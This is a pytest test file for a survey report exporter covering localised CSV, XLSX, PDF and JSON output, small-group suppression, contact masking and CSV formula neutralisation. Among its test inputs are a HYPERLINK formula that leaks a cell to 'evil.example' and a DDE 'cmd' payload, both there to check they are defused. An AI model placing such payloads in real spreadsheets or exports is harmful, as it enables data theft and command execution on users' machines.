"""Report exports: what each format shows, what it must never show, and in which language."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from audit.export import (
    CRITERIA_COLUMNS,
    EXPORTERS,
    file_name,
    to_csv,
    to_csv_excel,
    to_json,
    to_pdf,
    to_xlsx,
)
from audit.model import CRITERIA, Comment, PracticeSummary, Report, Trend
from audit.privacy import mask_contacts, safe_cell
from audit.stats import ScaleStats, composite, scale_stats
from bot.i18n import Translator
from conversations.messages import Msg, Text

LOCALES = ("uk", "ru", "en", "pl")
WEIGHTS = dict.fromkeys(CRITERIA, 1.0)
KRAKOW = {"uk": "Краків", "ru": "Краков", "en": "Kraków", "pl": "Kraków"}
GDANSK = {"uk": "Гданськ", "ru": "Гданьск", "en": "Gdańsk", "pl": "Gdańsk"}
INFO_POINT = {
    "uk": "Інформаційний пункт для іноземців",
    "ru": "Информационный пункт для иностранцев",
    "en": "Information Point for Foreigners",
    "pl": "Punkt Informacyjny dla Cudzoziemców",
}
OPEN_KRAKOW = {
    "uk": "Програма «Відкритий Краків»",
    "ru": "Программа «Открытый Краков»",
    "en": "Open Kraków programme",
    "pl": "Program „Otwarty Kraków”",
}
MODEL = {
    "uk": "Модель інтеграції іммігрантів",
    "ru": "Модель интеграции иммигрантов",
    "en": "Immigrant Integration Model",
    "pl": "Model Integracji Imigrantów",
}
CATEGORY = {"uk": "Послуги", "ru": "Услуги", "en": "Services", "pl": "Usługi"}
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def rated(counts: dict[int, int], dont_know: int = 0) -> dict[str, ScaleStats | None]:
    """The same ratings for every criterion."""
    return {name: scale_stats(counts, dont_know) for name in CRITERIA}


def build_report() -> Report:
    """Two cities, three practices: one with a trend, one suppressed, one distinguished."""
    info_point = PracticeSummary(
        city_id="krakow",
        city=KRAKOW,
        practice_id="krakow-info",
        practice=INFO_POINT,
        category=CATEGORY,
        invited=40,
        started=14,
        completed=12,
        suppressed=False,
        completion_rate=12 / 14,
        awareness=0.75,
        usage=0.5,
        languages={"uk": 8, "ru": None, "pl": None},
        trend=Trend(11, date(2025, 9, 1), 55.0, 15.8, overlap=True),
        criteria=(ratings := rated({2: 1, 3: 3, 4: 5, 5: 3}, dont_know=2)),
        composite=composite(ratings, WEIGHTS),
    )
    open_krakow = PracticeSummary(
        city_id="krakow",
        city=KRAKOW,
        practice_id="krakow-open",
        practice=OPEN_KRAKOW,
        category=CATEGORY,
        invited=40,
        started=None,
        completed=None,
        suppressed=True,
        criteria=dict.fromkeys(CRITERIA),
        languages={"uk": None},
    )
    model = PracticeSummary(
        city_id="gdansk",
        city=GDANSK,
        practice_id="gdansk-model",
        practice=MODEL,
        category=CATEGORY,
        invited=None,
        started=9,
        completed=8,
        suppressed=False,
        completion_rate=8 / 9,
        awareness=0.9,
        usage=0.4,
        languages={"uk": 6, "ru": None},
        distinguished_in=2016,
        criteria=(ratings := rated({2: 2, 3: 3, 4: 2, 5: 1})),
        composite=composite(ratings, WEIGHTS),
    )
    at = date(2026, 3, 20)
    comments = [
        Comment(1, "krakow", "krakow-info", INJECTION, hidden=False, answered_on=at),
        Comment(
            2,
            "gdansk",
            "gdansk-model",
            mask_contacts("Call me: +48 600 100 200, jan@example.com or @handle. Since 2016."),
            hidden=False,
            answered_on=at,
        ),
        Comment(3, "gdansk", "gdansk-model", "hidden remark", hidden=True, answered_on=at),
        Comment(4, "krakow", "krakow-open", "about the small group", hidden=False, answered_on=at),
    ]
    return Report(
        kind="round",
        label="12",
        starts=date(2026, 3, 1),
        ends=date(2026, 3, 31),
        generated_at=datetime(2026, 4, 1, 9, 0, tzinfo=UTC),
        k=5,
        weights=WEIGHTS,
        practices=[info_point, open_krakow, model],
        comments=comments,
    )


@pytest.fixture(scope="module")
def translator() -> Translator:
    return Translator("en")


@pytest.fixture(scope="module")
def report() -> Report:
    return build_report()


class Marking:
    """Marks every interface message it renders, to show that no heading bypasses the catalogs."""

    def __init__(self, translator: Translator) -> None:
        self.translator = translator

    def render(self, text: Text, locale: str) -> str:
        rendered = self.translator.render(text, locale)
        return f"«{rendered}»" if isinstance(text, Msg) else rendered


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content[3:].decode("utf-8"))))


def pdf_text(content: bytes) -> str:
    """The PDF's text with runs of whitespace (line breaks in table cells) made single spaces."""
    pages = PdfReader(io.BytesIO(content)).pages
    return " ".join(" ".join(page.extract_text() for page in pages).split())


# ----------------------------------------------------------------------------- CSV


def test_csv_is_tidy_with_a_localized_header(report: Report, translator: Translator) -> None:
    rows = csv_rows(to_csv(report, translator, "pl"))
    header, body = rows[0], rows[1:]
    assert header == [translator.render(column.label, "pl") for column in CRITERIA_COLUMNS]
    assert len(body) == len(report.practices) * len(CRITERIA)
    assert {len(row) for row in rows} == {len(header)}
    info = [row for row in body if row[2] == INFO_POINT["pl"]]
    assert [row[3] for row in info] == [
        "Zaangażowanie samorządu",
        "Długofalowość",
        "Kompleksowość",
        "Ogólna przydatność",
    ]
    assert info[0][1] == "Kraków"
    assert info[0][4] == "12"
    assert info[0][5] == "3.8333"  # a dot whatever the locale: data for tools
    assert info[0][-2:] == ["12", "Nie"]


def test_every_csv_heading_goes_through_the_catalogs(
    report: Report, translator: Translator
) -> None:
    header = csv_rows(to_csv(report, Marking(translator), "pl"))[0]
    assert all(cell.startswith("«") for cell in header)


def test_csv_shows_a_suppressed_practice_as_fewer_than_k(
    report: Report, translator: Translator
) -> None:
    rows = csv_rows(to_csv(report, translator, "pl"))
    suppressed = [row for row in rows if row[2] == OPEN_KRAKOW["pl"]]
    assert len(suppressed) == len(CRITERIA)
    for row in suppressed:
        figures = row[4:-1]
        assert figures == ["< 5"] * len(figures)
        assert row[-1] == "Tak"


def test_csv_neutralises_formulas_in_names(translator: Translator) -> None:
    report = build_report()
    report.practices[0].practice = {locale: "=cmd|' /C calc'!A0" for locale in LOCALES}
    rows = csv_rows(to_csv(report, translator, "en"))
    assert {row[2] for row in rows[1:5]} == {"'=cmd|' /C calc'!A0"}


@pytest.mark.parametrize("locale", ["pl", "uk", "ru"])
def test_excel_csv_uses_semicolons_and_decimal_commas(
    report: Report, translator: Translator, locale: str
) -> None:
    content = to_csv_excel(report, translator, locale)
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content[3:].decode("utf-8")), delimiter=";"))
    header, body = rows[0], rows[1:]
    assert header == [translator.render(column.label, locale) for column in CRITERIA_COLUMNS]
    assert {len(row) for row in rows} == {len(header)}  # ";" splits every row into its columns
    info = [row for row in body if row[2] == INFO_POINT[locale]]
    assert info[0][4] == "12"
    assert info[0][5] == "3,8333"  # the number Excel reads in this language
    assert "." not in info[0][5] + info[0][7] + info[0][8]
    assert all("," in row[5] for row in info)


def test_excel_csv_in_english_is_the_plain_csv(report: Report, translator: Translator) -> None:
    assert to_csv_excel(report, translator, "en") == to_csv(report, translator, "en")


def test_excel_csv_neutralises_formulas(translator: Translator) -> None:
    report = build_report()
    report.practices[0].practice = {locale: "=cmd|' /C calc'!A0" for locale in LOCALES}
    content = to_csv_excel(report, translator, "pl")
    rows = list(csv.reader(io.StringIO(content[3:].decode("utf-8")), delimiter=";"))
    assert {row[2] for row in rows[1:5]} == {"'=cmd|' /C calc'!A0"}


# ----------------------------------------------------------------------------- XLSX


def test_xlsx_has_five_sheets_a_chart_and_numbers(report: Report, translator: Translator) -> None:
    content = to_xlsx(report, translator, "en")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert any(name.startswith("xl/charts/chart") for name in archive.namelist())
    book = load_workbook(io.BytesIO(content))
    assert book.sheetnames == ["Summary", "Criteria", "Trend", "Comments", "Method"]
    summary = book["Summary"]
    assert summary.freeze_panes == "A2"
    assert summary["A1"].font.b
    assert summary["B2"].value == INFO_POINT["en"]  # best score first
    assert isinstance(summary["I2"].value, float)
    assert summary["I2"].number_format == "0.0"
    assert summary["L2"].value == "↑"
    assert summary["O3"].value == "held up"
    suppressed = next(
        row for row in summary.iter_rows(values_only=True) if row[1] == OPEN_KRAKOW["en"]
    )
    assert suppressed[3:13] == ("< 5",) * 10


def test_xlsx_comments_are_safe_and_only_the_visible_ones(
    report: Report, translator: Translator
) -> None:
    book = load_workbook(io.BytesIO(to_xlsx(report, translator, "uk")))
    comments = book.worksheets[3]
    rows = list(comments.iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in rows] == [1, 2]
    assert rows[0][3] == "'" + INJECTION
    assert comments["D2"].data_type == "s"
    assert rows[0][1:3] == (KRAKOW["uk"], INFO_POINT["uk"])
    assert "[phone]" in rows[1][3] and "600" not in rows[1][3]


def test_xlsx_method_sheet_lists_what_is_not_reported(
    report: Report, translator: Translator
) -> None:
    book = load_workbook(io.BytesIO(to_xlsx(report, translator, "en")))
    text = "\n".join(str(row[0]) for row in book["Method"].iter_rows(values_only=True) if row[0])
    assert "(m − 1) / 4 × 100" in text
    assert "fewer than 5 completed responses" in text
    assert f"Kraków — {OPEN_KRAKOW['en']}: < 5" in text


# ----------------------------------------------------------------------------- PDF


@pytest.mark.parametrize("locale", LOCALES)
def test_pdf_names_the_practices_in_each_language(
    report: Report, translator: Translator, locale: str
) -> None:
    content = to_pdf(report, translator, locale)
    assert content.startswith(b"%PDF")
    text = pdf_text(content)
    for names in (INFO_POINT, OPEN_KRAKOW, MODEL, KRAKOW, GDANSK):
        assert names[locale] in text
    assert "< 5" in text
    assert "[phone]" in text
    assert "hidden remark" not in text and "about the small group" not in text


def test_pdf_formats_numbers_for_the_reader(report: Report, translator: Translator) -> None:
    polish = pdf_text(to_pdf(report, translator, "pl"))
    english = pdf_text(to_pdf(report, translator, "en"))
    assert "70,8" in polish and "70.8" in english  # the information point's score
    assert "1 kwietnia 2026" in polish


# ----------------------------------------------------------------------------- JSON


def test_json_has_nulls_where_suppressed(report: Report, translator: Translator) -> None:
    document = json.loads(to_json(report, translator, "ru").decode("utf-8"))
    assert document["k"] == 5
    assert document["weights"] == WEIGHTS
    assert document["generated_at"].startswith("2026-04-01T09:00")
    by_id = {p["practice_id"]: p for p in document["practices"]}
    hidden = by_id["krakow-open"]
    assert hidden["suppressed"] is True
    assert hidden["completed"] is None and hidden["composite"] is None
    assert hidden["criteria"] == dict.fromkeys(CRITERIA)
    assert by_id["krakow-info"]["criteria"]["engagement"]["n"] == 12
    assert by_id["krakow-info"]["practice_name"] == INFO_POINT["ru"]
    assert by_id["krakow-info"]["languages"]["ru"] is None
    assert by_id["gdansk-model"]["held_up"] is True
    assert document["not_enough"] == ["krakow-open"]
    assert [c["id"] for c in document["comments"]] == [1, 2]
    assert "Краков" in to_json(report, translator, "ru").decode("utf-8")  # ensure_ascii=False


@pytest.mark.parametrize("fmt", sorted(EXPORTERS))
def test_every_format_copes_with_an_empty_report(translator: Translator, fmt: str) -> None:
    report = build_report()
    report.kind, report.label, report.practices, report.comments = "city", "krakow", [], []
    assert EXPORTERS[fmt](report, translator, "ru")


@pytest.mark.parametrize("fmt", sorted(EXPORTERS))
def test_control_characters_and_emoji_in_comments(translator: Translator, fmt: str) -> None:
    report = build_report()
    at = report.comments[0].answered_on
    report.comments.append(Comment(9, "krakow", "krakow-info", "Дякую 👍\x0b\x01!", False, at))
    assert EXPORTERS[fmt](report, translator, "uk")


def test_file_names(report: Report) -> None:
    assert file_name(report, "pdf") == "open-cities-round-12.pdf"
    year = build_report()
    year.kind, year.label = "year", "2026"
    assert file_name(year, "xlsx") == "open-cities-2026.xlsx"
    assert file_name(year, "csv-excel") == "open-cities-2026-excel.csv"
    assert set(EXPORTERS) == {"csv", "csv-excel", "xlsx", "pdf", "json"}
    with pytest.raises(ValueError):
        file_name(report, "doc")


# ----------------------------------------------------------------------------- privacy


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("+48 123 456 789", "[phone]"),
        ("dzwoń 123-456-789!", "dzwoń [phone]!"),
        ("+380 (67) 123 45 67", "[phone]"),
        ("мій номер 0671234567", "мій номер [phone]"),
        ("(600 100 200)", "([phone])"),
        ("+48600100200", "[phone]"),
        ("0048 600 100 200", "[phone]"),
        ("pisz: jan.kowalski@example.com", "pisz: [e-mail]"),
        ("пишіть @some_user", "пишіть [@handle]"),
        ("https://t.me/some_user", "[@handle]"),
        ("t.me/another_one", "[@handle]"),
    ],
)
def test_mask_contacts_masks(text: str, masked: str) -> None:
    assert mask_contacts(text) == masked


@pytest.mark.parametrize(
    "text",
    [
        "Działa od 2016 roku",
        "It takes 3 minutes",
        "Kosztuje 25 zł, a kurs 1 200 000 zł",
        "У 2015-2018 роках",
        "Open 10:00-18:00, 24/7",
        "Від 12.05.2016 і 12-05-2016 до 2026-03-01",
        "Room 12, floor 3",
        "spotkanie @ 18",
    ],
)
def test_mask_contacts_keeps_ordinary_numbers(text: str) -> None:
    assert mask_contacts(text) == text


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+48 600", "'+48 600"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("Kraków", "Kraków"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)
def test_safe_cell(value: str, safe: str) -> None:
    assert safe_cell(value) == safe
